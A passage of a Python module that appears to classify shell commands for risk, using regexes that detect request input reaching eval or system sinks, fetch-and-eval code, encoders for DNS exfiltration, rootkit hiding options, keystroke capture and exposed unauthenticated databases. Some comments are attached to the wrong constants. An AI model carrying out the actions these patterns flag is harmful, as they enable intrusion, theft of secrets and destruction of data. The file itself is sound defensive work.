_SED_EXECUTE = re.compile(
    r"^s(?P<d>[^\w\s\\])(?:(?!(?P=d)).)*(?P=d)(?P<replacement>(?:(?!(?P=d)).)*)(?P=d)[gpiI0-9]*e[gpiI0-9]*$"
)
_GIT_REPO_PATH = re.compile(
    r"^\$\(\s*git\s+rev-parse\s+--(show-toplevel|git-dir|absolute-git-dir|git-common-dir)\s*\)$"
)
_MKTEMP = re.compile(r"(?:\$\(|`)\s*mktemp\b(?![^)`]*(?:-p|--tmpdir=?)\s*[^-\s])")
#: A path made of variables only, with a slash after the first: `"$A"/*`, `$A/$B/`.
_ONLY_VARIABLES = re.compile(HOLE + r"(?:/+" + HOLE + r")*/+\*?")
_DQ_ESCAPE = re.compile(r'\\([\\"$`])')
#: Web code of other languages handing request input to eval/exec/unserialize or a file move.
_REQUEST_EXEC = re.compile(
    r"\b(?:eval|exec|system|shell_exec|passthru|assert|unserialize|execSync|instance_eval|popen)\s*\(?\s*"
    r"(?:\$_(?:GET|POST|REQUEST|COOKIE|SERVER)|req\.(?:query|body|params)|request\.(?:body|params)|params\[)|"
    r"move_uploaded_file\s*\([^,]+,\s*\$_(?:GET|POST|REQUEST)",
    re.IGNORECASE,
)
#: Source files whose content a script writes and then runs (or serves).
#: The same through a nested call in one statement: unserialize(base64_decode($_COOKIE['x'])).
_REQUEST_SINK = re.compile(
    r"\b(?:unserialize|eval|system|exec|passthru|shell_exec|move_uploaded_file|file_put_contents|include|require)"
    r"\s*\([^;]*\$_(?:GET|POST|REQUEST|COOKIE)",
    re.IGNORECASE,
)


def _make_recipes(makefile: str) -> list[str]:
    """The recipe lines of a Makefile with its simple variables (``NAME := value``) and ``$(HOME)`` expanded,
    and ``$$`` (the shell's own ``$``) unescaped."""
    variables = {"HOME": "~"}
    for name, value in re.findall(r"^([A-Za-z_][\w.]*)\s*[:?+]?=\s*(.*)$", makefile, re.M):
        variables[name] = value.strip()
    recipes: list[str] = []
    for line in makefile.splitlines():
        if line.startswith("\t"):
            recipe = line.strip().lstrip("@-+").replace("$$", "\x01")
            for _ in range(3):  # nested references, a few levels
                recipe = re.sub(r"\$[({](\w+)[)}]", lambda m: variables.get(m.group(1), HOLE), recipe)
            recipes.append(recipe.replace("\x01", "$"))
    return recipes


def _sed_inserted_text(script: str) -> str | None:
    """The text a sed ``s`` command puts in (its replacement) or an ``a``/``i`` command adds, with sed's
    escapes (``\\n``, ``\\t``, an escaped delimiter) undone; None for other scripts."""
    added = re.match(r"^(?:\d+|\$|/[^/]*/)?\s*[aic]\\?\s*(.*)$", script, re.S)
    if added:
        text = added.group(1)
    elif len(script) > 2 and script[0] == "s" and not script[1].isalnum() and not script[1].isspace():
        parts = re.split(r"(?<!\\)" + re.escape(script[1]), script[2:])
        if len(parts) < 3:
            return None
        text = parts[1].replace("\\" + script[1], script[1])
    else:
        return None
    return re.sub(r"\\([nt&\\])", lambda m: {"n": "\n", "t": "\t"}.get(m.group(1), m.group(1)), text)


def _duration_seconds(text: str) -> int | None:
    """``30s``, ``5m``, ``1h``, ``45`` as seconds."""
    match = re.fullmatch(r"(\d+)([smhd]?)", text.strip())
    if match is None:
        return None
    return int(match.group(1)) * {"": 1, "s": 1, "m": 60, "h": 3600, "d": 86400}[match.group(2)]


def _notable_path(word: str) -> bool:
    """A word naming a secret, start-up or privileged file, or a system or home tree."""
    info = paths.classify(word)
    return bool(info.secret or info.persistence or info.privilege or info.history) or info.kind in (
        paths.PathKind.ROOT,
        paths.PathKind.SYSTEM_TOP,
        paths.PathKind.HOME_TOP,
    )


def _php_tainted_sink(code: str) -> bool:
    """``$dest = $_POST['dest']; ... move_uploaded_file($tmp, $dest)``: request input reaching a sink."""
    for var in re.findall(r"\$(\w+)\s*=\s*[^;]*\$_(?:GET|POST|REQUEST|COOKIE)", code):
        if re.search(rf"\b(?:move_uploaded_file|file_put_contents|unlink|unserialize|eval|system|include)\s*\([^;]*"
                     rf"\${re.escape(var)}\b", code):  # fmt: skip
            return True
    return False


#: Environment settings that make go (and friends) skip checksums or use plain HTTP.
_UNVERIFIED_ENV = re.compile(r"\b(?:GOSUMDB=off|GONOSUMDB=[\"']?(?:\*|\S*(?:github\.com|golang\.org|gopkg\.in))"
                             r"|GOINSECURE=|GOPROXY=http://|GOFLAGS=\S*-insecure|"
                             r"NIX_CONFIG=\S*require-sigs\s*=\s*false|npm_config_strict_ssl=false)")  # fmt: skip
_ARRAY_ALL = re.compile(r'"?\$\{(\w+)\[[@*]\]\}"?')
_EMBEDDED_COMMAND = re.compile(
    r"""(?:\b(?:system|exec|popen|shell_exec|passthru|proc_open|execSync|spawnSync|execute|qx|do shell script)"""
    r"""\s*\(?\s*"""
    r"""(?P<q>["'])(?P<cmd>(?:\\.|(?!(?P=q)).)*)(?P=q))|`(?P<bt>[^`]+)`"""
)
#: A shell and its `-c` command line as an argument list in any language (`new ProcessBuilder("sh", "-c", CMD)`,
#: `exec(new String[]{"/bin/bash", "-c", CMD})`, `spawn("sh", ["-c", CMD])`).
_SHELL_C_ARGV = re.compile(r"""["'](?:/usr)?(?:/bin/)?(?:ba|z|da)?sh["']\s*,\s*\[?\s*["']-c["']\s*,\s*"""
                           r"""(?P<q>["'])(?P<cmd>(?:\\.|(?!(?P=q)).)*)(?P=q)""")  # fmt: skip
#: Octave's and MATLAB's `system('…')`, `unix('…')` with quotes doubled inside the single-quoted string.
_DOUBLED_QUOTE_CALL = re.compile(r"\b(?:system|unix|dos)\(\s*'((?:''|[^'])*)'")
#: R's restores of saved objects and workspaces (their functions and hooks come back with them).
_R_RESTORE = re.compile(r"\b(?:load|readRDS|unserialize|qs::qread)\s*\(")
#: Requests that send data in other languages' one-liners (R's httr and httr2, Julia's HTTP).
def _loads_remote_code(text: str) -> bool:
    """``text`` is code that fetches code over the network and evaluates it."""
    lowered = text.lower()
    return any(k in lowered for k in T.INLINE_DOWNLOADS) and _EVALUATES_TEXT.search(text) is not None


#: Commands that write out their whole input as they read it (no `head -c`-like limit of their own).
_STREAMING_READERS = frozenset({"cat", "base64", "base32", "xxd", "od", "hexdump", "gzip", "pigz", "bzip2", "xz",
                                "zstd", "tr", "openssl"})  # fmt: skip
#: Services that watch or protect something: alarms, monitors, detectors, loggers, safety controllers.
_ARGOCD_VALUED = frozenset({"--server", "--auth-token", "--config", "--grpc-web-root-path", "--context", "-o",
                            "--output"})  # fmt: skip
#: Ports of services never meant to be reachable from everywhere: remote desktops, telnet, container engines,
#: databases and caches.
_UNEXPOSED_PORTS = frozenset({"23", "3389", "5900", "5901", "2375", "2376", "6379", "11211", "27017", "9200", "5432",
                              "3306", "1433"})  # fmt: skip
_BACKUP_SUFFIXES = (".bak", ".orig", ".old", "~", ".backup", ".dpkg-old", ".save", ".prev")


def _against_own_backup(args: list[str]) -> bool:
    """The two files compared are one file and its backup copy (``X`` and ``X.bak``)."""
    files = [a for a in args if not a.startswith("-")]
    if len(files) != 2:
        return False
    shorter, longer = sorted(files, key=len)
    return longer.startswith(shorter) and longer[len(shorter):] in _BACKUP_SUFFIXES


#: Inline code evaluating text as code (JavaScript's eval and Function, Ruby's instance_eval, PowerShell's iex).
_EVALUATES_TEXT = re.compile(r"\beval\s*\(|\bnew\s+Function\(|\binstance_eval\b|\bInvoke-Expression\b|\biex\b")
_INLINE_POSTS = ("httr::post(", "httr::put(", "req_body_", "http.post(", "http.request(", "http.put(",
                 "curl_fetch_memory(", "upload_file(", "net::http.post", "->post(", "curl_exec(")  # fmt: skip
#: awk sends output to, or reads from, a command: print ... | "cmd", "cmd" | getline
_AWK_PIPE = re.compile(r"""\|\s*"((?:\\.|[^"\\])*)"|"((?:\\.|[^"\\])*)"\s*\|\s*getline""")


#: diskutil verbs that change a disk; every other verb (list, info, mount, verifyVolume...) only looks.
_DISKUTIL_WRITES = ("erase", "partition", "zero", "random", "secure", "reformat", "delete", "split", "merge",
                    "resize", "format", "addvolume", "create")  # fmt: skip


def _backtrace_only(args: list[str]) -> bool:
    """gdb ``args`` run in batch mode with commands that only print backtraces, threads or settings."""
    commands = W.option_values(args, "-ex", "--ex", "-eval-command", "--eval-command")
    return (
        any(a in ("-batch", "--batch") for a in args)
        and bool(commands)
        and all(_GDB_PRINTING.fullmatch(c.strip()) for c in commands)
    )


#: gdb commands that print a process's state without reading its data or changing it.
_GDB_PRINTING = re.compile(r"(?:thread\s+apply\s+all\s+)?(?:bt|backtrace)(?:\s+(?:full|\d+))?|info\s+(?:threads|"
                           r"sharedlibrary|signals)|set\s+(?:pagination|print\s+\w+|confirm|width|height)\s+\w+"
                           r"|thread\s+apply\s+all\s+py-bt|py-bt|detach|quit")  # fmt: skip
#: Installed kernel images listed (`dpkg --list 'linux-image-*'`, `dpkg -l | grep linux-image`).
_KERNEL_LISTING = re.compile(r"\b(?:dpkg\s+(?:-l|--list)|dpkg-query\s+-\w*W|rpm\s+-q)[^\n;&]*linux-image|kernel-core")
#: A server told to listen on every interface (`--host 0.0.0.0`, `-b 0.0.0.0:8000`).
_SERVES_EVERYWHERE = re.compile(r"(?:--host|--bind|--listen|--ip|-H|-b)[= ]+['\"]?0\.0\.0\.0\b")
#: The top of a mounted drive or network share (`/mnt/finance_share/`, `/media/usb`, `/Volumes/Team`).
_MOUNTED_SHARE_ROOT = re.compile(r"/(?:mnt|media|Volumes)/[^/\x00]+/?")
#: A test that updates asked for a restart (Debian's flag file, dnf's `needs-restarting -r`).
_REBOOT_REQUIRED = re.compile(r"\[\[?\s+-[ef]\s+/(?:var/)?run/reboot-required\s+\]|\bneeds-restarting\s+-r\b")
#: A login command that reads its password or token from standard input.
_STDIN_LOGIN = re.compile(r"\blogin\b[^|;&\n]*\s--(?:with-token|password-stdin|token-stdin)\b")
#: A token read from a login's answer (`jq -r .token`, `jq -r '.access_token'`).
_TOKEN_READ = re.compile(r"^\s*jq\b.*\.(?:\w*_)?(?:token|jwt)\b")
#: A command that stores a secret in a secrets store (a forge's, a cloud's, a vault's): the secret is moved, not leaked.
_STORES_SECRET = re.compile(
    r"^\s*(?:sudo\s+)?(?:(?:gh|glab)\s+(?:secret|variable)\s+set\b|aws\s+secretsmanager\s+(?:put-secret-value|create-secret"
    r"|update-secret)\b|aws\s+ssm\s+put-parameter\b[^|;&\n]*SecureString|az\s+keyvault\s+secret\s+set\b"
    r"|gcloud\s+secrets\s+(?:versions\s+add|create)\b|vault\s+kv\s+(?:put|patch)\b|kubectl\s+create\s+secret\b"
    r"|(?:doppler|infisical)\s+secrets\s+(?:set|upload)\b|(?:fly|flyctl|supabase)\s+secrets\s+(?:set|import)\b)"
)
#: A disk image file's name (`disk.img`, `rootfs.ext4`): formatting it rewrites a file, not a drive.
_DISK_IMAGE = re.compile(r"\.(?:img|raw|iso|qcow2|vhdx?|vmdk|image|ext[234]|xfs|btrfs)$")
#: A loop device attached to a file, its name printed (``$(sudo losetup -fP --show "$IMG")``): the file's word.
_LOOP_ATTACH = re.compile(r"\$\(\s*(?:sudo\s+)?losetup\b(?=[^)]*--show)[^)]*\s([^\s)-][^\s)]*)\s*\)")


def _lists_disks(name: str, args: list[str]) -> bool:
    """Disk tools asked to print the partition table (or diskutil's read-only verbs)."""
    if name == "diskutil":
        verbs = [a.lower() for a in args if not a.startswith("-")][:2]
        return not any(w in verb for verb in verbs for w in _DISKUTIL_WRITES)
    listing = {"fdisk": ("-l", "--list"), "gdisk": ("-l",), "sgdisk": ("-p", "--print", "-i", "--info"),
               "parted": ("-l", "--list", "print")}.get(name, ())  # fmt: skip
    return any(a in listing for a in args)


#: A web server's Diffie-Hellman parameters file (``dhparam.pem``, ``ffdhe2048.pem``).
_DH_PARAMETERS = re.compile(r"(?:dhparams?|ffdhe\d+)[\w.-]*\.(?:pem|txt)", re.IGNORECASE)
#: Services of :data:`T.ADMIN_PORTS` that answer over UDP too (memcached: amplification; SNMP; IPMI).
_UDP_SERVICES = frozenset({"11211", "161", "623"})
#: A variable's reference inside a loop's word list (`"$N"`, `${COUNT}`).
_NUMERIC_REFERENCE = re.compile(r"\"?\$\{?(\w+)\}?\"?")
#: `$OPENAI_API_KEY`, `${GH_TOKEN}`: an upper-case variable's name where it is used.
_ENVIRONMENT_REFERENCE = re.compile(r"\$\{?([A-Z][A-Z0-9]*_[A-Z0-9_]+)")
#: `${kv%%=*}`, `${path##*/}`: a prefix or suffix removed by a literal glob pattern.
_TRIM = re.compile(r"^\$\{\w+(?P<op>##?|%%?)(?P<pattern>[^${}`\\]*)\}$")


def _runs_file(source: str, path: str) -> bool:
    """``source`` uses the script at ``path`` (runs it, schedules it, names it in a build's provisioners) on a line
    other than those that write it or make it executable."""
    name = posixpath.basename(path)
    return any(
        name in line and not re.search(r">\s*\S*" + re.escape(name) + r"|\btee\b|\bchmod\b", line)
        for line in source.splitlines()
    )


def _encoded_powershell(text: str) -> str | None:
    """The script a PowerShell ``-EncodedCommand`` carries (base64 of UTF-16LE), when it is one."""
    if not re.fullmatch(r"[A-Za-z0-9+/]{8,}={0,2}", text):
        return None
    try:
        script = base64.b64decode(text, validate=True).decode("utf-16-le")
    except (ValueError, UnicodeDecodeError):
        return None
    return script if script.isprintable() or "\n" in script else None


#: An application's data folders (`tar czf - /var/spool/hl7 /opt/mirth/appdata`): its records, not its code.
_APP_DATA_DIR = re.compile(r"^/(?:var/(?:spool|lib)/[^/]+|opt/[^/]+/(?:data|appdata|storage|db))(?:/|$)")
#: storescu's and dcmsend's options that take a value (the peer and its port are the first operands).
_DICOM_VALUED = frozenset({"-aet", "-aec", "--aetitle", "--call", "-xf", "--config-file", "-to", "-ta", "-td",
                           "--timeout", "-pdu", "--max-pdu", "+sd", "--scan-directories"})  # fmt: skip
#: Kubernetes API paths that list Secrets (all of them, or a namespace's).
_CLUSTER_SECRETS = re.compile(r"/api/v1/(?:namespaces/[^/]+/)?secrets/?(?:\?|$)")
#: impacket's options that take a value (the target and its command are the operands after them).
_IMPACKET_VALUED = frozenset({"-hashes", "-aesKey", "-dc-ip", "-target-ip", "-port", "-codec", "-shell-type",
                              "-com-version", "-object", "-keytab", "-ts", "-share", "-A"})  # fmt: skip


#: ansible-playbook's options that take a value (the playbooks are the operands).
_PLAYBOOK_VALUED = frozenset({"-i", "--inventory", "-e", "--extra-vars", "-l", "--limit", "-u", "--user", "-t",
                              "--tags", "--skip-tags", "-f", "--forks", "--vault-password-file", "--become-user",
                              "-c", "--connection", "-M", "--module-path", "--private-key",
                              "--start-at-task"})  # fmt: skip


#: snmpset's options that take a value (the host is the first operand after them).
_SNMP_VALUED = frozenset({"-v", "-c", "-u", "-l", "-a", "-A", "-x", "-X", "-e", "-E", "-n", "-r", "-t", "-m", "-M",
                          "-O", "-I", "-L", "-Z", "-Y", "-C", "-D"})  # fmt: skip

#: Where forged file times hide something: the system's files, the home's, shared data (not the project's).
_TIMESTOMPED_KINDS = frozenset({paths.PathKind.SYSTEM, paths.PathKind.SYSTEM_TOP, paths.PathKind.HOME,
                                paths.PathKind.HOME_TOP, paths.PathKind.EXTERNAL})  # fmt: skip


def _trim(value: str, op: str, pattern: str) -> str:
    """``value`` with the shortest (``#``, ``%``) or longest (``##``, ``%%``) prefix or suffix matching ``pattern``
    removed, as bash does."""
    cuts = range(len(value) + 1)
    if op.startswith("#"):
        ends = [i for i in cuts if fnmatch.fnmatchcase(value[:i], pattern)]
        return value[(max(ends) if op == "##" else min(ends)) :] if ends else value
    starts = [i for i in cuts if fnmatch.fnmatchcase(value[i:], pattern)]
    return value[: (min(starts) if op == "%%" else max(starts))] if starts else value


#: Variables a CGI script (or a forced ssh command) gets from the client's request.
_REQUEST_VARIABLES = frozenset({"QUERY_STRING", "HTTP_USER_AGENT", "HTTP_COOKIE", "HTTP_REFERER", "REQUEST_URI",
                                "PATH_INFO", "HTTP_X_FORWARDED_FOR", "SSH_ORIGINAL_COMMAND"})  # fmt: skip
#: What a function's body spells its own name with.
_OWN_NAME = ("$FUNCNAME", "${FUNCNAME}", "${FUNCNAME[0]}")
#: A Dockerfile: its first instruction (after comments and ARGs) is FROM.
_DOCKERFILE_FROM = re.compile(r"^(?:\s*(?:#[^\n]*|ARG\s[^\n]*)\n)*\s*FROM\s+\S+", re.IGNORECASE)
_DOCKERFILE_RUN = re.compile(
    r"^\s*RUN\s+(?:--(?:mount|network|security)=\S+\s+(?:\\\n\s*)?)*((?:[^\n]*\\\n)*[^\n]+)", re.MULTILINE
)
#: A login form's password field filled from a variable (`pwd=$pw`, `"password":"$p"`).
_PASSWORD_FIELD = re.compile(r"(?:\bpwd|\bpass(?:word|wd)?)[\\\"']*[=:][\\\"'\s]*\$\{?(\w+)", re.IGNORECASE)
#: A command put in the background (`cmd &` at the end of a line or before `done`, not `&&`).
_BACKGROUNDED = re.compile(r"(?<![&>])&(?![&>])\s*(?:$|\n|;|done\b)", re.MULTILINE)
#: A loop condition looking for archives still to unpack.
_FINDS_ARCHIVES = re.compile(r"\bfind\b.*\.(?:zip|tar|t?gz|7z|rar)\b|\bls\b.*\*\.(?:zip|t?gz)\b")
_UNPACKS = re.compile(r"\bunzip\b|\btar\s+-?\w*x|\b7za?\s+x\b|\bgunzip\b|\bunrar\s+x\b")
#: Commands that turn a file into text fit for a DNS label (hex, base32/64).
_ENCODER = re.compile(rb"\b(?:xxd|hexdump|od\s+-[A-Za-z]*x|base32|base64(?!\s+-d)|basenc)\b")
def _spelled_words(text: str) -> list[str]:
    """A command line's words as written (variables unexpanded): ``-d "$PROD_DATABASE_URL"``."""
    try:
        return shlex.split(text, comments=False)
    except ValueError:
        return text.split()


#: The file of a CI run's triggering event (GitHub's, Gitea's): pull request titles, comment bodies, branch names.
_CI_EVENT_FILE = re.compile(r"\$\{?(?:GITHUB|GITEA|FORGEJO)_EVENT_PATH\b")
_UNIT_EXEC = re.compile(r"^\s*Exec\w*\s*=\s*(.+)$", re.MULTILINE)
#: rsync options that take a value (`-e "ssh -p 2222"`).
_RSYNC_VALUED = frozenset({"-e", "--rsh", "--exclude", "--include", "--filter", "-f", "--port", "--timeout",
                           "--bwlimit", "--log-file", "--password-file", "--chmod", "--chown"})  # fmt: skip
#: Python asked where installed packages live (`sysconfig`'s purelib, `site.getsitepackages()`, `-m site`).
_SITE_PACKAGES_LOOKUP = re.compile(
    r"^\$\(\s*python[\d.]*\s+(?:-c\s+[\s\S]*?(?:purelib|platlib|getsitepackages|getusersitepackages|get_python_lib)"
    r"|-m\s+site\s+--user-site)"
)
#: `$(command -v python3)`, `$(which node)`: the path of a named program.
_PROGRAM_LOOKUP = re.compile(r"^\$\(\s*(?:command\s+-v|which|type\s+-[pP])\s+([\w.+-]+)\s*\)$")
#: A find pattern naming a kind of media, document or data file (`*.mp4`, `*.JPG`, `*.xlsx`, `*.db`).
_MEDIA_FILE = re.compile(
    # (`*.pdf`, or a name part then the kind: `*SLD*.pdf`)
    r"\*(?:[\w-]*\*)?\.(?:" + "|".join(sorted(suffix[1:] for suffix in paths.WORK_FILE_SUFFIXES)) + ")",
    re.IGNORECASE,
)
#: A kernel module's option that hides files, processes or itself (a rootkit's settings).
_HIDING_OPTION = re.compile(r"\w*(?:hide|hidden|stealth|backdoor|rootkit|magic_?(?:word|pass|key))\w*=", re.I)
#: A read of what an input or serial device delivers (keystrokes, card swipes, a reader's lines).
_DEVICE_STREAM = re.compile(r"\b(?:cat|dd|tee|head|od|xxd|stdbuf|hexdump)\b[^|]*?/dev/(?:ttyUSB|ttyACM|ttyS|ttyAMA"
                            r"|input/|hidraw|usb/hiddev)")  # fmt: skip
#: A native extension loaded by a database shell (sqlite3's `.load`, SQL's `load_extension(...)`).
_LOADED_EXTENSION = re.compile(r"(?:^|[\s;\"'])\.load\s+(\S+)|load_extension\(\s*['\"]([^'\"]+)")
#: Long options that make a daemon parse its configuration and exit.
#: A sub-command that prints or checks a program's own settings (`config_dump`, `check-config`, `config validate`).
_CONFIG_SUBCOMMAND = re.compile(r"(?:config|conf)[-_:]?(?:dump|show|check|test|print|validate|verify)"
                                r"|(?:check|test|validate|verify|show|print|dump)[-_:]?(?:config|conf)")
_CHECK_ONLY_OPTIONS = frozenset({"--check-config", "--config-check", "--test-config", "--config-test",
                                 "--validate-config", "--verify-config", "--check-conf", "--configtest", "--validate",
                                 "--status"})  # (`searchd --config … --status`: the running daemon asked how it is)
#: nvme-cli's sub-commands that erase or remove what a drive holds.
_NVME_WRITES = frozenset({"format", "sanitize", "delete-ns", "write-zeroes", "ns-delete"})
#: An owner that is root, with any group (`root:root`, `0:0`, `root:www-data` for a server that only reads it).
_TO_ROOT = re.compile(r"(?:root|0)(?:[:.][\w-]*)?")
#: useradd's and adduser's options that take a value (the account's name comes after them).
_ACCOUNT_VALUED = frozenset({"-G", "-g", "-s", "-c", "-d", "-u", "-k", "-e", "-f", "-K", "--groups", "--gid", "--shell",
                             "--comment", "--home", "--uid"})  # fmt: skip
#: nsenter's options that take a value, and whether it enters the host's namespaces (pid 1's, or all of them).
_NSENTER_VALUED = frozenset({"-t", "--target", "-S", "--setuid", "-G", "--setgid", "-w", "--wd", "-r", "--root"})


def _enters_host(args: list[str]) -> bool:
    target = next(
        (args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-t", "--target")),
        next((a.split("=", 1)[1] for a in args if a.startswith("--target=")), None),
    )
    return target == "1" or "--all" in args or "-a" in args


#: NetworkManager's fields that hold a connection's saved secrets (or all fields, with `-s`).
_SAVED_SECRET_FIELD = re.compile(r"\.psk\b|password|secrets|wep-key|\bconnection\s+show\s+(?!-)\S+")
#: Paths of this project or of the temporary directory (the script's own).
_OWN_KINDS = (paths.PathKind.RELATIVE, paths.PathKind.WORKDIR, paths.PathKind.TEMP)
#: A root file system a build makes for itself (`./rootfs`, `/srv/build/rootfs-bookworm`, `/var/tmp/sysroot`).
_BUILT_ROOT = re.compile(r"/(?:[\w.-]*-)?(?:rootfs|sysroot|buildroot|chroot)(?:[-_.][\w.-]*)?$")
#: debugfs requests that change a file system.
_DEBUGFS_WRITES = re.compile(r"\b(?:rm|kill_file|unlink|write|rmdir|clri|freeb|freei|set_inode_field|sif|mi)\b")
#: A line starting with a backslash before a word or `!` (psql's `\!`, TeX's `\immediate`, `\rm` past an alias).
_LEADING_BACKSLASH = re.compile(r"^([ \t]*)\\(?=[!\w])", re.MULTILINE)
#: A debugger's listening port bound to every interface.
_DEBUG_PORT_EVERYWHERE = re.compile(r"--inspect(?:-brk)?=(?:0\.0\.0\.0|\[::\])|--listen[= ](?:0\.0\.0\.0|\[::\])")
#: Database and cache servers started by hand.
_DATA_STORE_DAEMONS = frozenset({"mongod", "mysqld", "mysqld_safe", "mariadbd", "redis-server", "memcached", "postgres",
                                 "valkey-server"})  # fmt: skip
_AUTH_OFF = frozenset({"--noauth", "--skip-grant-tables", "--protected-mode=no"})


def _binds_everywhere(args: Sequence[str]) -> bool:
    joined = " ".join(args)
    return "--bind_ip_all" in args or bool(re.search(r"--bind(?:_ip|-address)?[= ](?:0\.0\.0\.0|\*|::)", joined)) or (
        "-l" in args and "0.0.0.0" in args
    )


def _store_open_to_all(args: Sequence[str]) -> bool:
    """``mongod --noauth --bind_ip_all``, ``redis-server --protected-mode no --bind 0.0.0.0``: logins off where
    others reach it; ``mysqld --skip-grant-tables`` without ``--skip-networking``: anyone is root."""
    off = bool(_AUTH_OFF & set(args)) or " ".join(args).find("--protected-mode no") >= 0
    if "--skip-grant-tables" in args and "--skip-networking" not in args:
        return True
    return off and _binds_everywhere(args)


#: Global options of cloud CLIs that take a value.
_CLOUD_VALUED = frozenset({"--profile", "--region", "--endpoint-url", "--output", "--query", "--project",
                           "--account", "--configuration", "--subscription", "--resource-group", "-g"})
#: Calls of inline PHP, Ruby, Perl or Node code that fetch a URL they are given.
_URL_READERS = ("file_get_contents", "fopen(", "uri.open", "open-uri", "uri(", "lwp", "get(", "fetch(", "urlopen")
#: /etc folders of the system itself (not an application's own settings folder).
_SYSTEM_CONFIG_DIRS = frozenset({"ssh", "pam.d", "security", "default", "network", "netplan", "apt", "yum.repos.d",
                                 "sysctl.d", "modprobe.d", "ld.so.conf.d", "systemd", "udev", "selinux", "apparmor.d",
                                 "audit", "docker", "containerd", "kubernetes", "ssl", "pki",
                                 "resolvconf"})  # fmt: skip
_ARCHIVE_NAME = re.compile(r"\.(?:zip|tar|tar\.\w+|tgz|tbz2?|txz|7z|rar)$", re.I)


def _nft_dnat(args: Sequence[str]) -> list[str]:
    """The addresses an nft rule's ``dnat to ADDRESS`` sends connections to."""
    return [args[i + 2] for i in range(len(args) - 2) if args[i] == "dnat" and args[i + 1] == "to"]


def cluster_words(args: Sequence[str]) -> str:
    """The context, cluster, kubeconfig and namespace a kubectl command line names (where it acts)."""
    return " ".join(W.option_values(args, "--context", "--cluster", "--kubeconfig", "-n", "--namespace"))


def _applied_after_preview(node: Any) -> bool:
    """``kubectl create … --dry-run=client -o yaml | kubectl apply -f -``: the preview is the manifest the next
    command of the pipeline applies (the idiom for create-or-update), not a dry run."""
    parent = node.parent if node is not None else None
    if parent is None or parent.type != "pipeline":
        return False
    text = parent.text.decode("utf-8", "replace") if parent.text is not None else ""
    return bool(re.search(r"\|\s*(?:\S*/)?kubectl\s+(?:apply|create|replace)\b[^|]*-f\s*-", text))


def _installs_package_file(name: str, args: Sequence[str]) -> bool:
    """``dpkg -i FILE``, ``rpm -Uvh FILE``, ``apt install ./FILE``, ``pip install FILE``: a package file installed
    (its install scripts run), not queried or listed."""
    if name in ("dpkg", "rpm"):
        return any(
            a in ("--install", "--unpack", "--upgrade", "--freshen")
            or (a.startswith("-") and not a.startswith("--") and a[1:2] in ("i", "U", "F") and "q" not in a)
            for a in args
        )
    if name in ("apt", "apt-get", "yum", "dnf", "zypper", "gdebi", "pip", "pip3", "pipx", "installer", "snap"):
        return name in ("gdebi", "installer") or any(a in ("install", "localinstall", "reinstall", "in") for a in args)
    # an application's own extension manager (`mkp add FILE`, `wp plugin install FILE.zip`, `gnome-extensions
    # install FILE`): the extension's code runs inside the application
    verbs = [a for a in args if not a.startswith("-")][:2]
    return name not in _FILE_KEEPERS and any(v in ("add", "install", "--install-extension") for v in verbs)


#: Tools whose `add` keeps a file (version control, archives, key agents) rather than running what is in it.
_FILE_KEEPERS = frozenset({"git", "hg", "svn", "ssh-add", "apt-key", "tar", "zip", "7z", "ipfs", "dvc", "git-lfs"})


def _extracts(name: str, args: list[str]) -> bool:
    """The archiver unpacks (``tar -xzf``, ``unzip``, ``7z x``) rather than packs."""
    if name == "unzip":
        return True
    if name in ("7z", "7za"):
        return args[:1] == ["x"]
    return name in ("tar", "bsdtar") and any(
        a in ("--extract", "--get") or (a.startswith("-") and not a.startswith("--") and "x" in a)
        or (not a.startswith("-") and i == 0 and "x" in a) for i, a in enumerate(args)
    )  # fmt: skip


def _local_socket_only(args: list[str]) -> bool:
    """socat between standard input and a local socket file (no network address, no program)."""
    endpoints = [a.lower() for a in args if not a.startswith("-")]
    return len(endpoints) == 2 and all(
        e in ("stdio", "-", "stdin", "stdout") or e.startswith("unix-connect:") or e.endswith((".sock", ".socket"))
        for e in endpoints
    )


def _pf_flushed(args: list[str]) -> bool:
    """``pfctl -F all`` (or ``-F rules``): every rule of the packet filter removed."""
    return any(a in ("-F", "-Fa", "-Fr") for a in args) and W.option_values(args, "-F")[:1] in (
        ["all"], ["rules"], ["a"], ["r"], []
    )


#: Validator keys fetched from another machine (`scp -r staker@10.0.4.21:/var/lib/teku/validator/keys ./keys`).
_COPIED_KEYS = re.compile(r"\b(?:scp|rsync)\b[^\n]*@[\w.-]+:[^\s]*(?:validator|keystore|keys)")
#: Subcommands of Rundeck's CLI `rd` (the same name as cmd's rmdir).
_RUNDECK_VERBS = frozenset({"adhoc", "run", "jobs", "projects", "executions", "keys", "nodes", "system", "tokens",
                            "users", "scheduler", "metrics", "plugins", "acl"})  # fmt: skip
#: `flow.pids_of` of a listing of one user's every process (`ps -u NAME`): the marker, then the user.
_USER_PIDS = "\x01user:"


def _own_login(command: str) -> bool:
    """``command`` posts a password from a password manager's entry (``password=$(pass show seafile/me)``) to a login
    or token endpoint of a host named like that entry (``https://seafile.example.org/api2/auth-token/``)."""
    entry = _PASSWORD_ENTRY.search(command)
    login = _LOGIN_ENDPOINT.search(command)
    return entry is not None and login is not None and entry.group(1).lower() in (login.group(1) or "").lower()


def _after_app(args: list[str]) -> list[str]:
    """The command line after a platform's options and app name (``dokku run --env K=V web sh -c CMD``)."""
    k = 0
    while k < len(args) and args[k].startswith("-"):
        k += 2 if args[k] in ("-e", "--env") else 1
    return args[k + 1 :]


def _state_word(word: str) -> bool:
    """``word`` asks a service for its state or restarts it, alone or as a namespaced subcommand (``ps:report``)."""
    return word.lower().rsplit(":", 1)[-1] in _SERVICE_STATE_WORDS


def _service_administration(argv: list[str]) -> bool:
    """A service's own status, check, reload and backup commands (``gitlab-ctl status``, ``gitlab-rake
    gitlab:check``, ``gitlab-backup create``, ``suricatasc -c reload-rules``, ``suricata-update``)."""
    name, args = W.base(argv[0]) if argv else "", argv[1:]
    if name == "gitlab-ctl":
        return args[:1] in (["status"], ["restart"], ["start"], ["reconfigure"], ["tail"], ["hup"], ["service-list"])
    if name == "gitlab-rake":
        return bool(args) and re.fullmatch(r"gitlab:(?:\w+:)?(?:check|info)|gitlab:env:info", args[0]) is not None
    if name == "gitlab-backup":
        return args[:1] == ["create"]
    if name.endswith("-backup") and args[:1] in (["create"], ["list"], ["upload"]):
        return True  # a data store's backup tool taking a backup, listing them, sending one where its settings say
    if name in ("pcs", "crm"):
        return args[:1] == ["status"] or args[:2] in (
            ["config", "show"], ["cluster", "status"], ["node", "standby"], ["node", "unstandby"], ["config", "backup"],
            ["resource", "status"],
        )
    if name in ("corosync-cfgtool", "corosync-quorumtool", "crm_mon", "crm_verify"):
        return True
